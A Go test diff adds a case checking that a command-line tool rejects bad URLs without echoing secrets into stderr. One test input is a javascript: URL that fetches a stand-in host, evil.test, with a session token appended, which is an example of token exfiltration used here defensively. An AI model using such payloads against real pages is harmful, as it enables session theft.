@@ -118,3 +118,34 @@ func TestBadInput(t *testing.T) {
 		t.Errorf("the store changed:\nbefore %s\nafter  %s", before, after)
 	}
 }
+
+// TestBadInputHidesSecrets: an error that quotes bad input masks the secrets in it, as a
+// save masks them in what it stores (SPEC §8): stderr often ends up in a log file.
+func TestBadInputHidesSecrets(t *testing.T) {
+	home := t.TempDir()
+	const token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
+	trace := writeFile(t, "ftp.json", []byte(strings.ReplaceAll(goodTrace, "https://docs.example.org/releases",
+		"ftp://docs.example.org/releases?token="+token)))
+	for name, args := range map[string][]string{
+		"start_url":     {"save", "--url", testURL, "--trace", trace},
+		"mailto url":    {"query", "--url", "mailto:alice.smith@example.com"},
+		"javascript":    {"query", "--url", `javascript:fetch("https://evil.test/?session=` + token + `")`},
+		"step url":      {"step", "--session", "s1", "--step", `{"action":"click","url":"ftp://x.test/?api_key=` + token + `"}`},
+		"learned route": {"pattern", "learn", "--url", "file:///home/alice/?password=hunter2hunter2", "--name", "n", "--success-indicator", "#done", "--steps", `[{"action":"navigate","url":"https://x.test/"}]`},
+	} {
+		t.Run(name, func(t *testing.T) {
+			r := run(t, nil, append([]string{"--home", home}, args...)...)
+			if r.code != 2 {
+				t.Fatalf("exit %d, want 2; stderr %q", r.code, r.stderr)
+			}
+			for _, secret := range []string{token, "alice.smith@example.com", "hunter2hunter2"} {
+				if strings.Contains(r.stderr, secret) {
+					t.Errorf("stderr repeats a secret: %q", r.stderr)
+				}
+			}
+			if !strings.Contains(r.stderr, "url") {
+				t.Errorf("stderr does not name the field: %q", r.stderr)
+			}
+		})
+	}
+}
